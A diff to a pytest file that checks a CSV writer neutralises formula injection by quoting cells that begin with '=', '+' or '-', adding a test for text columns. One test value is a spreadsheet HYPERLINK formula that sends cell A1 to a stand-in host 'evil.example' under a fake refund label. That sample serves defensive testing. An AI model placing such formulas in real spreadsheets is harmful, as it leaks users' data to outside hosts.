@@ -14,7 +14,7 @@ SOURCE = Path(__file__).resolve().parent.parent / "marketplace"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
 
 
-@pytest.mark.parametrize("value, written", [
+TEXT_CELLS = [
     (HYPERLINK, "'" + HYPERLINK),
     ("+44 113 496 0000", "'+44 113 496 0000"),
     ("-2+3", "'-2+3"),
@@ -24,10 +24,20 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")
     ("-12.50", "-12.50"),  # a plain number stays a number
     ("Brightpath Home Care", "Brightpath Home Care"),
     ("", ""),
-    (12, 12),
-])
+    ("Line one\n=1+1", "Line one\n=1+1"),  # only a cell's start matters
+]
+
+
+@pytest.mark.parametrize("value, written", [*TEXT_CELLS, (12, 12)])
 def test_cells_that_could_start_a_formula_are_written_as_text(value, written):
     assert safe_cell(value) == written
+
+
+@pytest.mark.parametrize("value, written", TEXT_CELLS)
+def test_a_long_csv_checks_its_text_columns_as_every_cell_is_checked(value, written):
+    out = io.StringIO()
+    SafeWriter(out).write_text_columns([["-5", value, value], ["-5", "fine", value]], text_columns=[1, 2])
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["-5", written, written], ["-5", "fine", written]]
 
 
 def test_only_the_safe_writer_makes_csv_writers():
